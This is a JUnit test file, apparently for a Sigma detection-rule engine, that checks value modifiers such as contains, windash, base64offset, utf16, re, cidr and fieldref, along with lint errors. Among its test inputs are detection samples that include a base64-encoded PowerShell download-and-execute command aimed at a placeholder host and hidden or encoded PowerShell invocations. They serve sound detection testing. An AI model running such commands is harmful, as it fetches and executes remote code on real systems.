package io.bulkhead.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Every value modifier of the Sigma 2.1 modifiers appendix, with cases taken from its text. */
final class SigmaModifierTest {

  private static boolean m(String selection, String json) {
    return Sigma.matches(selection, json);
  }

  @ParameterizedTest(name = "[{index}] {0} ~ {1} -> {2}")
  @CsvSource(delimiter = ';', value = {
    // "startswith: The value is expected at the beginning of the field's content"
    "f|startswith: 'adm' ; {\"f\": \"Administrator\"} ; true",
    "f|startswith: 'adm' ; {\"f\": \"sysadm\"} ; false",
    // "endswith: The value is expected at the end of the field's content"
    "f|endswith: '\\cmd.exe' ; {\"f\": \"C:\\\\x\\\\CMD.EXE\"} ; true",
    "f|endswith: '\\cmd.exe' ; {\"f\": \"C:\\\\x\\\\cmd.exe.bak\"} ; false",
    // "contains: Puts * wildcards around the values"
    "f|contains: 'evil' ; {\"f\": \"an EVIL plan\"} ; true",
    "f|contains: 'evil' ; {\"f\": \"an evl plan\"} ; false",
    // wildcards inside a contains value keep their meaning
    "f|contains: 'a?c' ; {\"f\": \"xxabcxx\"} ; true",
  })
  void positionModifiers_placeTheValue(String selection, String json, boolean expected) {
    assertThat(m(selection, json)).isEqualTo(expected);
  }

  @Test
  void all_linksTheValuesWithAnd() {
    String sel = "f|contains|all:\n    - 'OabVirtualDirectory'\n    - ' -ExternalUrl '";
    assertThat(m(sel, "{\"f\": \"Set-OabVirtualDirectory -ExternalUrl http://x\"}")).isTrue();
    assertThat(m(sel, "{\"f\": \"Set-OabVirtualDirectory\"}")).isFalse();
    assertThat(m("f|contains:\n    - 'a'\n    - 'zz'", "{\"f\": \"a\"}")).as("without all: OR").isTrue();
  }

  @Test
  void all_onASingleValueIsAWarningNotAnError() {
    RuleSet rs = Sigma.lint("title: t\nlogsource: {product: test}\ndetection:\n  sel:\n    f|all: x\n  condition: sel\n");
    assertThat(rs.rejected()).isEmpty();
    assertThat(rs.diagnostics()).anySatisfy(d -> assertThat(d.message()).contains("'all' on a single value"));
  }

  @ParameterizedTest(name = "[{index}] {0} ~ {1} -> {2}")
  @CsvSource(delimiter = ';', value = {
    // "exists: Defines that a certain field has to exist or must not exist"
    "f|exists: true ; {\"f\": \"x\"} ; true",
    "f|exists: true ; {\"g\": \"x\"} ; false",
    "f|exists: false ; {\"g\": \"x\"} ; true",
    "f|exists: false ; {\"f\": \"x\"} ; false",
    // "... only verifies the presence of a field, not its value, be it empty or null"
    "f|exists: true ; {\"f\": null} ; true",
    "f|exists: true ; {\"f\": \"\"} ; true",
    "a.b|exists: true ; {\"a\": {\"b\": 1}} ; true",
    "a.b|exists: true ; {\"a\": {\"c\": 1}} ; false",
  })
  void exists_testsPresence(String selection, String json, boolean expected) {
    assertThat(m(selection, json)).isEqualTo(expected);
  }

  @ParameterizedTest(name = "[{index}] {0} ~ {1} -> {2}")
  @CsvSource(delimiter = ';', value = {
    // "neq: The field is different from the specified values"
    "f|neq: 'admin' ; {\"f\": \"guest\"} ; true",
    "f|neq: 'admin' ; {\"f\": \"ADMIN\"} ; false",
    "f|neq: 'admin' ; {\"g\": \"x\"} ; false",
    "f|neq: 'admin' ; {\"f\": null} ; false",
    "'f|neq: [admin, root]' ; {\"f\": \"root\"} ; false",
    "'f|neq: [admin, root]' ; {\"f\": \"guest\"} ; true",
    "f|neq: 200 ; {\"f\": 404} ; true",
    "f|neq: 200 ; {\"f\": 200} ; false",
    "f|neq: 200 ; {\"f\": 200.0} ; false",
  })
  void neq_matchesDifferentPresentValues(String selection, String json, boolean expected) {
    assertThat(m(selection.startsWith("'") ? selection.substring(1, selection.length() - 1) : selection, json)).isEqualTo(expected);
  }

  @ParameterizedTest(name = "[{index}] {0}")
  @ValueSource(strings = {"-enc", "/enc", "\u2013enc", "\u2014enc", "\u2015enc"})
  void windash_makesEveryDashInterchangeable(String flag) {
    String sel = "f|windash|contains: ' -enc '";
    assertThat(m(sel, "{\"f\": \"powershell " + flag + " ZQBj\"}")).isTrue();
  }

  @Test
  void windash_leavesDashesInsideWordsAlone() {
    String sel = "f|windash|contains: 'x-y'";
    assertThat(m(sel, "{\"f\": \"x-y\"}")).isTrue();
    assertThat(m(sel, "{\"f\": \"x/y\"}")).isFalse();
  }

  @ParameterizedTest(name = "[{index}] {0} ~ {1} -> {2}")
  @CsvSource(delimiter = ';', value = {
    // "Regex is matched case-sensitive by default"
    "f|re: 'ab+c' ; {\"f\": \"xxABBCxx\"} ; false",
    "f|re: 'ab+c' ; {\"f\": \"xxabbcxx\"} ; true",
    // "i: (insensitive) to enable case-insensitive matching"
    "f|re|i: 'ab+c' ; {\"f\": \"xxABBCxx\"} ; true",
    // "m: (multi line) ... ^ /$ match the start/end of line"
    "f|re: '^two$' ; {\"f\": \"one\\ntwo\\nthree\"} ; false",
    "f|re|m: '^two$' ; {\"f\": \"one\\ntwo\\nthree\"} ; true",
    // "s: (single line) to enable that dot (.) matches all characters, including the newline"
    "f|re: 'one.two' ; {\"f\": \"one\\ntwo\"} ; false",
    "f|re|s: 'one.two' ; {\"f\": \"one\\ntwo\"} ; true",
    // pySigma's aliases
    "f|re|ignorecase: 'AB' ; {\"f\": \"ab\"} ; true",
    // the flavour's metacharacters: . ^ $ * + ? {n,m} [a-z] [^a-z] | ()
    "f|re: '^(ab|cd){2,3}[x-z][^0-9]?$' ; {\"f\": \"abcdx\"} ; true",
    // a regex matches a number's text too
    "f|re: '^4[0-9]{2}$' ; {\"f\": 404} ; true",
  })
  void re_usesRe2WithFlags(String selection, String json, boolean expected) {
    assertThat(m(selection, json)).isEqualTo(expected);
  }

  @Test
  void re_invalidOrNonLinearRegexIsALintErrorNamingIt() {
    RuleSet rs = Sigma.lint("title: t\nlogsource: {product: test}\ndetection:\n  sel:\n    f|re: '(a)\\1'\n  condition: sel\n");
    assertThat(rs.rejected()).hasSize(1);
    assertThat(rs.diagnostics()).anySatisfy(d -> {
      assertThat(d.code()).isEqualTo("regex");
      assertThat(d.message()).contains("(a)\\1").contains("RE2");
      assertThat(d.line()).isEqualTo(5);
    });
  }

  @Test
  void base64_encodesTheValue() {
    assertThat(m("f: placeholder", "{\"f\": \"placeholder\"}")).isTrue();
    assertThat(m("f|base64: 'hello'", "{\"f\": \"aGVsbG8=\"}")).isTrue();
    assertThat(m("f|base64|contains: 'hello'", "{\"f\": \"xxaGVsbG8=xx\"}")).isTrue();
  }

  @ParameterizedTest(name = "offset {0}")
  @ValueSource(ints = {0, 1, 2, 3, 4})
  void base64offset_findsTheValueAtAnyOffsetInEncodedText(int offset) {
    String plain = "x".repeat(offset) + "powershell -w hidden -c evil.exe now";
    String encoded = Base64.getEncoder().encodeToString(plain.getBytes(StandardCharsets.UTF_8));
    assertThat(m("f|base64offset|contains: 'evil.exe'", "{\"f\": \"" + encoded + "\"}")).isTrue();
    assertThat(m("f|base64offset|contains: 'good.exe'", "{\"f\": \"" + encoded + "\"}")).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = ';', value = {
    // "utf16le: Transforms value to UTF16-LE encoding, e.g. cmd > 63 00 6d 00 64 00"
    "utf16le ; YwBtAGQA",
    "wide ; YwBtAGQA",
    // "utf16be: ... e.g. cmd > 00 63 00 6d 00 64"
    "utf16be ; AGMAbQBk",
    // "utf16: Prepends a byte order mark and encodes UTF16, e.g. cmd > FF FE 63 00 6d 00 64 00"
    "utf16 ; //5jAG0AZAA=",
  })
  void utf16_encodingsThenBase64(String modifier, String encoded) {
    assertThat(m("f|" + modifier + "|base64: 'cmd'", "{\"f\": \"" + encoded + "\"}")).isTrue();
  }

  @ParameterizedTest(name = "offset {0}")
  @ValueSource(ints = {0, 1, 2})
  void wide_base64offset_findsAnEncodedPowerShellCommand(int offset) {
    String plain = "x".repeat(offset) + "IEX (New-Object Net.WebClient).DownloadString('http://x')";
    String encoded = Base64.getEncoder().encodeToString(plain.getBytes(StandardCharsets.UTF_16LE));
    assertThat(m("f|wide|base64offset|contains: 'DownloadString'", "{\"f\": \"" + encoded + "\"}")).isTrue();
  }

  @ParameterizedTest(name = "[{index}] {0} ~ {1} -> {2}")
  @CsvSource(delimiter = ';', value = {
    "f|gt: 100 ; {\"f\": 101} ; true",
    "f|gt: 100 ; {\"f\": 100} ; false",
    "f|gte: 100 ; {\"f\": 100} ; true",
    "f|lt: 100 ; {\"f\": 99.5} ; true",
    "f|lte: 100 ; {\"f\": 100.0} ; true",
    "f|lte: 100 ; {\"f\": 100.01} ; false",
    "f|gt: 100 ; {\"f\": \"250\"} ; true",
    "f|gt: 100 ; {\"f\": \"many\"} ; false",
    "f|gt: -1.5 ; {\"f\": -1} ; true",
    "f|gt: 100 ; {\"f\": true} ; false",
  })
  void numericModifiers_compareNumbers(String selection, String json, boolean expected) {
    assertThat(m(selection, json)).isEqualTo(expected);
  }

  @Test
  void numericModifiers_needANumber() {
    RuleSet rs = Sigma.lint("title: t\nlogsource: {product: test}\ndetection:\n  sel:\n    f|gt: many\n  condition: sel\n");
    assertThat(rs.diagnostics()).anySatisfy(d -> assertThat(d.message()).contains("take numbers, not 'many'"));
  }

  @ParameterizedTest(name = "[{index}] {0} ~ {1} -> {2}")
  @CsvSource(delimiter = ';', value = {
    "t|minute: 58 ; {\"t\": \"2023-11-23T15:58:00Z\"} ; true",
    "t|hour: 15 ; {\"t\": \"2023-11-23T15:58:00Z\"} ; true",
    // "not designed to handle timezone ... conversions": parts as written
    "t|hour: 15 ; {\"t\": \"2023-11-23T15:58:00+02:00\"} ; true",
    "t|hour|gte: 22 ; {\"t\": \"2023-11-23T23:01:00Z\"} ; true",
    "t|hour|gte: 22 ; {\"t\": \"2023-11-23T08:01:00Z\"} ; false",
    "t|day: 23 ; {\"t\": \"2023-11-23 15:58:00.123\"} ; true",
    "t|week: 47 ; {\"t\": \"2023-11-23T15:58:00Z\"} ; true",
    "t|month: 11 ; {\"t\": \"2023-11-23\"} ; true",
    "t|year: 2023 ; {\"t\": 1700755080} ; true",
    "t|hour: 15 ; {\"t\": 1700755080000} ; true",
    "t|hour: 15 ; {\"t\": \"yesterday\"} ; false",
    "t|hour: 0 ; {\"t\": \"2023-11-23\"} ; false",
  })
  void timeModifiers_extractAPartOfADate(String selection, String json, boolean expected) {
    assertThat(m(selection, json)).isEqualTo(expected);
  }

  @ParameterizedTest(name = "[{index}] {0} ~ {1} -> {2}")
  @CsvSource(delimiter = ';', value = {
    "ip|cidr: 10.0.0.0/8 ; {\"ip\": \"10.200.3.4\"} ; true",
    "ip|cidr: 10.0.0.0/8 ; {\"ip\": \"11.0.0.1\"} ; false",
    "ip|cidr: 193.142.58.0/24 ; {\"ip\": \"193.142.58.126\"} ; true",
    "ip|cidr: 0.0.0.0/0 ; {\"ip\": \"8.8.8.8\"} ; true",
    "ip|cidr: 10.0.0.0/8 ; {\"ip\": \"::ffff:10.1.2.3\"} ; true",
    "ip|cidr: '2001:db8::/32' ; {\"ip\": \"2001:DB8:0:1::5\"} ; true",
    "ip|cidr: '2001:db8::/32' ; {\"ip\": \"2001:db9::1\"} ; false",
    "ip|cidr: 'fe80::/10' ; {\"ip\": \"fe80::1%eth0\"} ; true",
    "ip|cidr: 10.0.0.0/8 ; {\"ip\": \"10.0.0.256\"} ; false",
    "ip|cidr: 10.0.0.0/8 ; {\"ip\": \"not an ip\"} ; false",
    "ip|cidr: 10.0.0.0/8 ; {\"ip\": \"fe80::1\"} ; false",
  })
  void cidr_matchesIpv4AndIpv6Networks(String selection, String json, boolean expected) {
    assertThat(m(selection, json)).isEqualTo(expected);
  }

  @Test
  void cidr_invalidNetworkIsALintError() {
    RuleSet rs = Sigma.lint("title: t\nlogsource: {product: test}\ndetection:\n  sel:\n    ip|cidr: 10.0.0.0/33\n  condition: sel\n");
    assertThat(rs.diagnostics()).anySatisfy(d -> {
      assertThat(d.code()).isEqualTo("cidr");
      assertThat(d.line()).isEqualTo(5);
      assertThat(d.message()).contains("prefix length 33");
    });
  }

  @Test
  void expand_substitutesPlaceholderValues() {
    String yaml = "title: t\nlogsource: {product: test}\ndetection:\n  sel:\n    user|expand: '%Administrators%'\n"
        + "  condition: sel\n";
    RuleSet rs = SigmaLoader.builder().placeholder("Administrators", List.of("adm_*", "root")).build().loadText("r.yml", yaml);
    CompiledRule r = rs.detections().get(0);
    assertThat(r.matchesDocument(Sigma.doc("{\"user\": \"adm_alice\"}"))).isTrue();
    assertThat(r.matchesDocument(Sigma.doc("{\"user\": \"ROOT\"}"))).isTrue();
    assertThat(r.matchesDocument(Sigma.doc("{\"user\": \"alice\"}"))).isFalse();
  }

  @Test
  void expand_keepsEscapedPercentSignsAndLiteralPlaceholdersWithoutExpand() {
    String yaml = "title: t\nlogsource: {product: test}\ndetection:\n  sel:\n    f|expand: '\\%plain%name%'\n"
        + "  lit:\n    g: '%name%'\n  condition: sel and lit\n";
    RuleSet rs = SigmaLoader.builder().placeholder("name", List.of("X")).build().loadText("r.yml", yaml);
    assertThat(rs.rejected()).isEmpty();
    assertThat(rs.detections().get(0).matchesDocument(Sigma.doc("{\"f\": \"%plainX\", \"g\": \"%name%\"}"))).isTrue();
  }

  @Test
  void expand_withoutAValueRejectsTheRuleAsUnsupported() {
    RuleSet rs = Sigma.lint("title: t\nlogsource: {product: test}\ndetection:\n  sel:\n    h|expand: '%Servers%'\n  condition: sel\n");
    assertThat(rs.rejected()).singleElement().satisfies(r -> {
      assertThat(r.unsupported()).isTrue();
      assertThat(r.reason()).contains("%Servers%").contains("--placeholder");
    });
  }

  @ParameterizedTest(name = "[{index}] {0} ~ {1} -> {2}")
  @CsvSource(delimiter = ';', value = {
    "a|fieldref: b ; {\"a\": \"Bob\", \"b\": \"bob\"} ; true",
    "a|fieldref: b ; {\"a\": \"Bob\", \"b\": \"alice\"} ; false",
    "a|fieldref: b ; {\"a\": \"Bob\"} ; false",
    "a|fieldref|cased: b ; {\"a\": \"Bob\", \"b\": \"bob\"} ; false",
    "a|fieldref|neq: b ; {\"a\": \"Bob\", \"b\": \"alice\"} ; true",
    "a|fieldref|neq: b ; {\"a\": \"Bob\", \"b\": \"bob\"} ; false",
    "arn|fieldref|endswith: user ; {\"arn\": \"arn:aws:iam::1:user/bob\", \"user\": \"bob\"} ; true",
    "a|fieldref|contains: b ; {\"a\": \"xxbobxx\", \"b\": \"BOB\"} ; true",
    "a|fieldref: b.c ; {\"a\": 5, \"b\": {\"c\": 5}} ; true",
  })
  void fieldref_comparesWithAnotherField(String selection, String json, boolean expected) {
    assertThat(m(selection, json)).isEqualTo(expected);
  }

  @Test
  void unknownModifier_isALintErrorNamingIt() {
    RuleSet rs = Sigma.lint("title: t\nlogsource: {product: test}\ndetection:\n  sel:\n    f|contians: x\n  condition: sel\n");
    assertThat(rs.rejected()).hasSize(1);
    assertThat(rs.diagnostics()).anySatisfy(d -> {
      assertThat(d.toString()).isEqualTo("rule.yml:5:5: error: unknown modifier 'contians' on 'f'");
    });
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = ';', value = {
    "f|re|contains: x ; 're' cannot be combined with contains",
    "f|exists|neq: true ; 'exists' cannot be combined",
    "f|cidr|base64: 10.0.0.0/8 ; 'cidr' cannot be combined with base64",
    "f|i: x ; need the 're' modifier",
    "f|contains|startswith: x ; exclude each other",
    "f|gt|lt: 1 ; more than one comparison",
    "f|base64: 'a*' ; cannot encode wildcards",
    "f|exists: maybe ; takes true or false",
    "f|windash|base64: x ; cannot come before an encoding",
  })
  void incompatibleModifiers_areLintErrors(String selection, String message) {
    RuleSet rs = Sigma.lint("title: t\nlogsource: {product: test}\ndetection:\n  sel:\n    " + selection + "\n  condition: sel\n");
    assertThat(rs.rejected()).hasSize(1);
    assertThat(rs.diagnostics()).anySatisfy(d -> assertThat(d.message()).contains(message));
  }
}
